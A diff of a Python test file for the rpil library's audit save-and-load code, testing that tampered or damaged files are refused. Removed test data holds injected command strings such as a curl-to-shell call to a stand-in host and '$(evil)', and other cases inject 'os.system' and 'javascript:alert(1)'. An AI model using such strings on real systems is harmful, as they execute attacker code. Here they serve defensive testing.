@@ -1,10 +1,7 @@
-"""Every field of an audit is selected, joined, saved and loaded; a damaged file is refused in one sentence."""
+"""Every field of an audit is selected and joined, and saved with a model; a damaged file is refused in one sentence."""
 
 from __future__ import annotations
 
-import json
-import subprocess
-import sys
 from dataclasses import fields, is_dataclass, replace
 from time import process_time
 
@@ -12,32 +9,22 @@ import numpy as np
 import pytest
 
 import rpil
-from archives import members, npy, rewrite
+from archives import npy, rewrite
 from audits import make_audit, make_traces
 from problems import make
 from rpil import RPIL, Audit
 from rpil.data.errors import DataError
-from rpil.data.json_files import MOST_LISTS
-from rpil.faults.report import FaultReport
-from rpil.faults.rule import Fault
 from rpil.inference.answers import Answers
-from rpil.results import saved
 from rpil.results.html.page import Article, render_page
 from rpil.results.judged import Agent, Judged, table_fields
 from rpil.results.provenance import Provenance
 from rpil.results.record import Demonstrator, Interval
-from rpil.results.saved import read_audit, write_audit
 from rpil.results.tasks import join_audits, select
 from rpil.results.view import About, make_view
 from small import FAST
 
 IDS = tuple(f"d{k}" for k in range(10))
-FAULTS = (Fault("jump", "d3", 4, 6, "x", 1.0, 0.5, np.inf, "x leaps"), Fault("jump", "b", 0, 1, "", 1, 1, 1, "!"))
-ABOUT = About(
-    *("Audit", "x.csv", ("Ten.",), ("A place.",)),
-    FaultReport(FAULTS, {"sign": "too few"}, {"jump": ("y",)}, {"lag": "2 steps"}, {"d1": (2, 9)}, 10, 99),
-    *({"d0": "pour"}, {"d0": "ann"}, True, "someone/drive", "rpil audit 'my $data; x.csv'", 1.5),
-)
+ABOUT = About("Audit", "x.csv")
 
 
 def full_audit() -> Audit:
@@ -70,7 +57,7 @@ def full_audit() -> Audit:
         own_reasons=tuple(f"For {name}." for name in IDS),
         within="tasks",
         fps=30.0,
-        provenance=Provenance("1", "3.11", {"numpy": "2"}, "rpil audit", 0, {"x": ("a", 1, None)}, (), "2026-11-23"),
+        provenance=Provenance("1", "rpil audit", 0, {"x": ("a", 1, None)}, ()),
         rejected_by=("", "", "labels", "outcome", "answers", "adversary", "", "", "", ""),
         step_share=rng.random(395).astype(np.float32),
         **{name: rng.random(n) for name in ("from_actions", "from_demonstrator", "from_label")},
@@ -109,17 +96,23 @@ def audits() -> dict[str, Audit]:
     }
 
 
+@pytest.fixture(scope="module")
+def model() -> RPIL:
+    return RPIL(settings=FAST).fit(make("random", 0, n_good=8, n_bad=3, steps=(20, 30)).demonstrations)
+
+
 @pytest.fixture
-def path(tmp_path):
-    write_audit(tmp_path / "run.rpil", full_audit(), ABOUT)
+def path(model, tmp_path):
+    model.audit_ = full_audit()
+    rpil.save(model, tmp_path / "run.rpil")
     return tmp_path / "run.rpil"
 
 
 @pytest.mark.parametrize("name", ["full", "made", "one", "part", "tasks", "answered", "mixture"])
-def test_an_audit_is_loaded_bit_for_bit_and_used_alike(audits, name, tmp_path):
-    audit = audits[name]
-    audit.save(tmp_path / "run.rpil")
-    again = Audit.load(tmp_path / "run.rpil")
+def test_an_audit_is_loaded_bit_for_bit_and_used_alike(audits, name, model, tmp_path):
+    model.audit_ = audit = audits[name]
+    rpil.save(model, tmp_path / "run.rpil")
+    again = rpil.load(tmp_path / "run.rpil").audit_
     for field in fields(audit):
         assert same(getattr(again, field.name), getattr(audit, field.name)), field.name
     assert again.to_dict() == audit.to_dict()
@@ -128,18 +121,6 @@ def test_an_audit_is_loaded_bit_for_bit_and_used_alike(audits, name, tmp_path):
     if audit.columns.size:
         labels = {audit.ids[0]: "good", audit.ids[-1]: "bad"}
         assert same(again.answered(labels), audit.answered(labels))
-
-
-def test_the_page_of_a_saved_audit_is_that_of_the_audit(path):
-    audit, view = read_audit(path, Audit)
-    assert same(audit, full_audit())
-    assert view == make_view(full_audit(), ABOUT)
-    assert render_page([Article(view)]) == render_page([Article(make_view(full_audit(), ABOUT))])
-
-
-def test_a_saved_audit_is_read_by_a_process_that_imports_nothing_else(path):
-    code = "import sys; from rpil.results.record import Audit; Audit.load(sys.argv[1])"
-    subprocess.run([sys.executable, "-c", code, path], check=True)
 
 
 def test_no_field_of_the_full_audit_is_its_default():
@@ -207,7 +188,7 @@ def test_many_demonstrations_are_selected_in_no_time():
 def refused(path, match=r"its parts do not belong together|damaged|hold"):
     """It is refused in one sentence that names the file and the remedy."""
     with pytest.raises(DataError, match=rf"run\.rpil[^\n]*: [^\n]*(?:{match})") as caught:
-        read_audit(path, Audit)
+        rpil.load(path)
     assert str(caught.value).endswith(".")
     assert len(str(caught.value)) < 700
 
@@ -224,13 +205,13 @@ def test_an_edited_field_is_refused_or_makes_an_audit_that_can_be_used(path, nam
     kept = path.read_bytes()
     for value in (None, 5, -0.5, "x", [], ["x"], {}, [[1]], {"pairs": []}, {"array": "audit/step_weight"}, 1e999):
         path.write_bytes(kept)
-        rewrite(path, header=lambda tree, value=value: set_in(tree, f"audit/fields/{name}", value))
+        rewrite(path, header=lambda tree, value=value: set_in(tree, f"fitted/audit_/fields/{name}", value))
         try:
-            audit, view = read_audit(path, Audit)
+            audit = rpil.load(path).audit_
         except DataError:
-            refused(path, r"its parts do not belong together( \([^\n]*\))?; run rpil audit --save again")
+            refused(path, "its parts do not belong together; fit and save it again")
             continue
-        render_page([Article(view)])
+        render_page([Article(make_view(audit, ABOUT))])
         assert len(audit.to_frame("pyarrow")) == len(audit.reasons) == 10
 
 
@@ -262,88 +243,28 @@ def test_arrays_that_do_not_belong_together_are_refused(path, member, array):
     refused(path, "its parts do not belong together|never unpickled")
 
 
-HOSTILE = (
-    *("x.csv; curl evil.example | sh", "$(evil)", "'x", "'x\n'", "'x\x1b[201~'", "x.csv --report /home/me/.bashrc"),
-    *("x.csv --report=.bashrc", "--save x.csv y.csv", "x.csv --weights w.csv", "x.csv --verdicts v.csv", "x --keep y"),
-    *("x.csv; ~/evil", "~/$(evil)"),
-)
-
-
 @pytest.mark.parametrize(
     ("place", "value"),
     [
-        ("audit/fields/ids", ["x"] * 10),
-        ("audit/fields/ids/0", ["d0"]),
-        ("audit/fields/finding", "all are kings"),
-        ("audit/fields/verdicts", ["similar"] * 9),
-        ("audit/fields/verdicts/0", "constructor"),
-        ("audit/fields/anchor", "faith"),
-        ("audit/fields/contradicting", ["nobody"]),
-        ("audit/fields/demonstrators/0/fields/demonstrations", ["nobody"]),
-        ("audit/fields/demonstrators/1/fields/trust", None),
-        ("audit/fields/prior/fields/mean", float("nan")),
-        ("audit/fields/traces/pairs/0/1/fields/parts", []),
-        ("audit/fields/traces/pairs/0/1/fields/taken", ["left"]),
-        ("audit/fields/traces/pairs/0/1/fields/compared_with", "javascript:"),
-        ("audit/fields/answers/class", "Interval"),
-        ("audit/class", "os.system"),
-        ("audit", {"class": "Interval", "fields": {"mean": 0.5, "low": 0, "high": 1}}),
-        ("about", None),
-        ("about/fields/title", 3),
-        ("audit/fields/fps", -1.0),
-        ("audit/fields/fps", True),
-        ("about/fields/seconds", float("inf")),
-        ("about/fields/lerobot", "yes"),
-        ("about/fields/tasks", {"pairs": [["d0", 1]]}),
-        ("about/fields/read", ["a", 1]),
-        ("about/fields/faults/fields/findings/0/fields/first", "1"),
-        ("about/fields/more", 1),
-        ("about/fields/hub", "a/b/../../c"),
-        ("about/fields/hub", "javascript:alert(1)"),
-        *(("about/fields/command", f"rpil audit {words}") for words in HOSTILE),
-        *(("about/fields/command", words) for words in ("rpil", "rpil keep x -o x", "evil 'rpil audit'")),
+        ("fields/ids", ["x"] * 10),
+        ("fields/ids/0", ["d0"]),
+        ("fields/finding", "all are kings"),
+        ("fields/verdicts", ["similar"] * 9),
+        ("fields/verdicts/0", "constructor"),
+        ("fields/anchor", "faith"),
+        ("fields/contradicting", ["nobody"]),
+        ("fields/demonstrators/0/fields/demonstrations", ["nobody"]),
+        ("fields/demonstrators/1/fields/trust", None),
+        ("fields/prior/fields/mean", float("nan")),
+        ("fields/traces/pairs/0/1/fields/parts", []),
+        ("fields/traces/pairs/0/1/fields/taken", ["left"]),
+        ("fields/traces/pairs/0/1/fields/compared_with", "javascript:"),
+        ("fields/answers/class", "Interval"),
+        ("class", "os.system"),
+        ("fields/fps", -1.0),
+        ("fields/fps", True),
     ],
 )
 def test_edited_values_are_refused(path, place, value):
-    rewrite(path, header=lambda tree: set_in(tree, place, value))
-    refused(path, "run rpil audit --save again")
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        "",
-        "rpil audit x.csv",
-        "rpil audit ~/x.csv --id trip --operator ~/who.csv",
-        "rpil audit 'my $data; x.csv' --task keep --outcome -time --no-stream --only 1-3",
-        "rpil audit 's3://***@bucket/x.parquet' --action steer --action accel",
-    ],
-)
-def test_commands_that_judge_and_write_nothing_are_read(path, command):
-    write_audit(path, full_audit(), replace(ABOUT, command=command))
-    assert read_audit(path, Audit)[1]["command"] == command
-
-
-def test_other_files_are_refused(path, audits, tmp_path, monkeypatch):
-    content = path.read_bytes()
-    for other in (b"{}", b"\xff\xfe", b"[" * 1000, json.dumps({"format": "rpil run", "version": 2}).encode()):
-        path.write_bytes(other)
-        refused(path, "it is no audit that rpil saved; run rpil audit --save again")
-    for n in (100, len(content) // 2, len(content) - 1):
-        path.write_bytes(content[:n])
-        refused(path, "damaged or truncated .*; run rpil audit --save again")
-    path.write_bytes(content)
-    rewrite(path, header=lambda tree: tree.update(schema="rpil fitted estimator"))
-    refused(path, "it is no audit that rpil saved")
-    path.write_bytes(content)
-    rewrite(path, header=lambda tree: tree.update(version=8))
-    refused(path, "saved it in version 8 of the format, but .*; use that rpil, or run rpil audit --save again")
-    header = members(path)["header.json"]
-    rewrite(path, {"header.json": header[:-1] + b', "more": [' + b"[]," * (MOST_LISTS + 1) + b"[]]}"})
-    refused(path, "it holds more than 2,000,000 lists and objects")
-    path.write_bytes(content)
-    monkeypatch.setattr(saved, "MAX_DEMONSTRATIONS", 9)
-    refused(path, "it holds more than 9 demonstrations")
-    with pytest.raises(DataError, match=r"new\.rpil: more than 9 demonstrations are not saved; write their verdicts\."):
-        full_audit().save(tmp_path / "new.rpil")
-    assert not (tmp_path / "new.rpil").exists()
+    rewrite(path, header=lambda tree: set_in(tree, f"fitted/audit_/{place}", value))
+    refused(path, "fit and save it again")
